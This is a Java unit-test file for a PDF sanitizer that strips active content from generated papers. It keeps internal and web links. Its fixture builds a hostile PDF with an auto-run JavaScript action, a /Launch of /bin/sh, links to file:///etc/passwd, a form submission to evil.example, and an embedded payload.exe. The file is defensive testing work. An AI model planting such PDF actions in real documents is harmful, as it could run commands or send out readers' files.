package dev.paperorchestra.runtime.figures;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;

/**
 * A paper's PDF as a hostile template can make it (issue 40: the published paper.pdf kept an /OpenAction script and
 * a /Launch of /bin/sh), built object by object: every kind of active content on the catalog, a page, its
 * annotations and the outlines, next to the links a paper needs. After the rewrite no object anywhere is a script,
 * a launch, a form, a file or media, and the internal and web links are still there.
 */
class PdfActiveContentTest {

    private static final Duration LIMIT = Duration.ofSeconds(30);

    private static COSName name(String name) {
        return COSName.getPDFName(name);
    }

    private static COSDictionary action(String type, String key, COSBase value) {
        COSDictionary action = new COSDictionary();
        action.setItem(COSName.TYPE, name("Action"));
        action.setItem(COSName.S, name(type));
        if (key != null) {
            action.setItem(name(key), value);
        }
        return action;
    }

    private static COSDictionary link(COSDictionary action) {
        COSDictionary annotation = new COSDictionary();
        annotation.setItem(COSName.TYPE, COSName.ANNOT);
        annotation.setItem(COSName.SUBTYPE, COSName.LINK);
        annotation.setItem(COSName.RECT, rect());
        annotation.setItem(COSName.A, action);
        return annotation;
    }

    private static COSArray rect() {
        COSArray rect = new COSArray();
        for (int value : new int[] {10, 10, 50, 50}) {
            rect.add(org.apache.pdfbox.cos.COSInteger.get(value));
        }
        return rect;
    }

    private static COSDictionary annotation(String subtype) {
        COSDictionary annotation = new COSDictionary();
        annotation.setItem(COSName.SUBTYPE, name(subtype));
        annotation.setItem(COSName.RECT, rect());
        return annotation;
    }

    private static COSDictionary embeddedFile() {
        COSDictionary spec = new COSDictionary();
        spec.setItem(COSName.TYPE, COSName.FILESPEC);
        spec.setItem(COSName.F, new COSString("payload.exe"));
        COSDictionary ef = new COSDictionary();
        org.apache.pdfbox.cos.COSStream file = new org.apache.pdfbox.cos.COSStream();
        file.setItem(COSName.TYPE, name("EmbeddedFile"));
        ef.setItem(COSName.F, file);
        spec.setItem(COSName.EF, ef);
        return spec;
    }

    /** Two pages; page 1 links to page 2, to a web site and a mail address, and carries every hostile thing. */
    private static byte[] hostilePaper() throws IOException {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage first = new PDPage();
            PDPage second = new PDPage();
            document.addPage(first);
            document.addPage(second);
            COSArray toSecond = new COSArray();
            toSecond.add(second.getCOSObject());
            toSecond.add(name("Fit"));
            COSDictionary catalog = document.getDocumentCatalog().getCOSObject();
            catalog.setItem(name("OpenAction"), action("JavaScript", "JS", new COSString("app.alert('open')")));
            catalog.setItem(COSName.AA, new COSDictionary());
            COSDictionary names = new COSDictionary();
            COSDictionary scripts = new COSDictionary();
            COSArray scriptNames = new COSArray();
            scriptNames.add(new COSString("init"));
            scriptNames.add(action("JavaScript", "JS", new COSString("app.launchURL('x')")));
            scripts.setItem(COSName.NAMES, scriptNames);
            names.setItem(name("JavaScript"), scripts);
            COSDictionary files = new COSDictionary();
            COSArray fileNames = new COSArray();
            fileNames.add(new COSString("payload.exe"));
            fileNames.add(embeddedFile());
            files.setItem(COSName.NAMES, fileNames);
            names.setItem(name("EmbeddedFiles"), files);
            COSDictionary dests = new COSDictionary();
            COSArray destNames = new COSArray();
            destNames.add(new COSString("section.1"));
            destNames.add(toSecond);
            dests.setItem(COSName.NAMES, destNames);
            names.setItem(COSName.DESTS, dests);
            catalog.setItem(COSName.NAMES, names);
            COSDictionary form = new COSDictionary();
            form.setItem(COSName.FIELDS, new COSArray());
            catalog.setItem(COSName.ACRO_FORM, form);

            COSArray annotations = new COSArray();
            annotations.add(link(action("URI", "URI", new COSString("https://example.org/paper"))));
            annotations.add(link(action("URI", "URI", new COSString("mailto:author@example.org"))));
            COSDictionary goTo = action("GoTo", "D", toSecond);
            goTo.setItem(name("Next"), action("JavaScript", "JS", new COSString("app.alert('next')")));
            annotations.add(link(goTo));
            COSDictionary named = annotation("Link");
            named.setItem(COSName.DEST, new COSString("section.1"));
            annotations.add(named);
            COSDictionary launch = action("Launch", "F", new COSString("/bin/sh"));
            annotations.add(link(launch));
            annotations.add(link(action("URI", "URI", new COSString("javascript:app.alert(1)"))));
            annotations.add(link(action("URI", "URI", new COSString("file:///etc/passwd"))));
            annotations.add(link(action("SubmitForm", "F", new COSString("https://evil.example/collect"))));
            annotations.add(link(action("ImportData", "F", new COSString("/etc/passwd"))));
            annotations.add(link(action("GoToR", "F", new COSString("/home/user/other.pdf"))));
            COSDictionary attachment = annotation("FileAttachment");
            attachment.setItem(COSName.FS, embeddedFile());
            annotations.add(attachment);
            annotations.add(annotation("RichMedia"));
            annotations.add(annotation("Widget"));
            first.getCOSObject().setItem(COSName.ANNOTS, annotations);
            first.getCOSObject().setItem(COSName.AA, action("JavaScript", "JS", new COSString("app.alert('page')")));

            COSDictionary outlines = new COSDictionary();
            COSDictionary item = new COSDictionary();
            item.setItem(COSName.TITLE, new COSString("Introduction"));
            item.setItem(COSName.DEST, toSecond);
            COSDictionary scripted = new COSDictionary();
            scripted.setItem(COSName.TITLE, new COSString("Run me"));
            scripted.setItem(COSName.A, action("JavaScript", "JS", new COSString("app.alert('outline')")));
            item.setItem(COSName.NEXT, scripted);
            outlines.setItem(COSName.FIRST, item);
            catalog.setItem(COSName.OUTLINES, outlines);
            document.save(out);
            return out.toByteArray();
        }
    }

    @Test
    void a_paper_loses_every_script_launch_form_file_and_media_and_keeps_its_links() throws IOException {
        PdfActiveContent.Outcome outcome = PdfActiveContent.strip(hostilePaper(), LIMIT);

        assertThat(outcome).isInstanceOf(PdfActiveContent.Outcome.Cleaned.class);
        PdfActiveContent.Outcome.Cleaned cleaned = (PdfActiveContent.Outcome.Cleaned) outcome;
        assertThat(cleaned.removed()).contains("the document's /OpenAction a /JavaScript action", "a /Launch action",
                "a /SubmitForm action", "a /ImportData action", "a /GoToR action", "a /FileAttachment annotation",
                "a /RichMedia annotation", "a /Widget annotation", "/JavaScript entries", "/EmbeddedFiles entries",
                "/AcroForm entries", "/AA entries");
        try (PDDocument document = Loader.loadPDF(cleaned.pdf())) {
            List<COSDictionary> objects = PdfObjects.everyDictionary(document);
            assertThat(objects).as("no action but internal and web links")
                    .allSatisfy(dictionary -> {
                        if (dictionary.getDictionaryObject(COSName.S) instanceof COSName s
                                && PdfActiveContent.ACTIONS.contains(s)) {
                            assertThat(s.getName()).isIn("GoTo", "URI");
                        }
                    });
            assertThat(objects).noneMatch(dictionary -> dictionary.containsKey(COSName.JS)
                    || dictionary.containsKey(name("JavaScript")) || dictionary.containsKey(COSName.AA)
                    || dictionary.containsKey(COSName.EF) || dictionary.containsKey(name("EmbeddedFiles"))
                    || dictionary.containsKey(COSName.ACRO_FORM) || dictionary.containsKey(name("OpenAction"))
                    || name("EmbeddedFile").equals(dictionary.getDictionaryObject(COSName.TYPE)));
            assertThat(objects).extracting(dictionary -> dictionary.getDictionaryObject(COSName.URI))
                    .filteredOn(uri -> uri instanceof COSString).extracting(uri -> ((COSString) uri).getString())
                    .containsExactlyInAnyOrder("https://example.org/paper", "mailto:author@example.org");
            assertThat(document.getNumberOfPages()).isEqualTo(2);
            assertThat(document.getPage(0).getAnnotations()).hasSize(4);
            assertThat(document.getDocumentCatalog().getNames().getDests()).isNotNull();
            assertThat(document.getDocumentCatalog().getDocumentOutline().getFirstChild().getTitle())
                    .isEqualTo("Introduction");
        }
    }

    @Test
    void an_open_action_that_only_shows_a_page_stays() throws IOException {
        byte[] paper;
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            COSArray fit = new COSArray();
            fit.add(page.getCOSObject());
            fit.add(name("Fit"));
            document.getDocumentCatalog().getCOSObject().setItem(name("OpenAction"), fit);
            document.save(out);
            paper = out.toByteArray();
        }

        PdfActiveContent.Outcome outcome = PdfActiveContent.strip(paper, LIMIT);

        assertThat(outcome).isInstanceOfSatisfying(PdfActiveContent.Outcome.Cleaned.class, cleaned -> {
            assertThat(cleaned.removed()).isEmpty();
            try (PDDocument document = Loader.loadPDF(cleaned.pdf())) {
                assertThat(document.getDocumentCatalog().getCOSObject().getDictionaryObject(name("OpenAction")))
                        .isInstanceOf(COSArray.class);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
    }

    @Test
    void a_key_given_twice_is_not_carried_over_in_the_form_pdfbox_did_not_read() throws IOException {
        byte[] paper;
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            document.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
            paper = out.toByteArray();
        }
        // a second /OpenAction in the catalog, as pdfTeX writes one from \pdfcatalog next to hyperref's
        String text = new String(paper, java.nio.charset.StandardCharsets.ISO_8859_1);
        String doubled = text.replaceFirst("/Type /Catalog", "/Type /Catalog /OpenAction [3 0 R /Fit] "
                + "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>");
        byte[] hostile = doubled.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);

        PdfActiveContent.Outcome outcome = PdfActiveContent.strip(hostile, LIMIT);

        assertThat(outcome).isInstanceOfSatisfying(PdfActiveContent.Outcome.Cleaned.class, cleaned ->
                assertThat(new String(cleaned.pdf(), java.nio.charset.StandardCharsets.ISO_8859_1))
                        .doesNotContain("JavaScript", "app.alert"));
    }

    @Test
    void bytes_that_are_no_pdf_are_unreadable_with_a_reason() {
        assertThat(PdfActiveContent.strip("%PDF-1.7 not really".getBytes(), LIMIT))
                .isInstanceOfSatisfying(PdfActiveContent.Outcome.Unreadable.class,
                        unreadable -> assertThat(unreadable.reason()).isNotBlank());
    }
}
